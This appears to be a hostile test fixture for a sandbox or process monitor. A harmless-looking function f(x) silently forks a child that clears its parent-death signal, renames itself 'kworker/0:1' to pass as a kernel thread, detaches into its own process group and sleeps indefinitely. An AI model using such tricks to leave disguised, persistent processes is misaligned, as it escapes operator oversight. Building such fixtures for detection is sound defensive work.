# /// hostile
# verdicts = ["accepted"]
# danger = "Declares itself a reaper, clears the death signal of its children and hides them."
# ///
import ctypes
import os
import time

libc = ctypes.CDLL(None)


def f(x):
    libc.prctl(36, 1, 0, 0, 0)
    if os.fork() == 0:
        libc.prctl(1, 0, 0, 0, 0)
        libc.prctl(15, b"kworker/0:1", 0, 0, 0)
        os.setpgid(0, 0)
        time.sleep(100_000)
    return x + 1
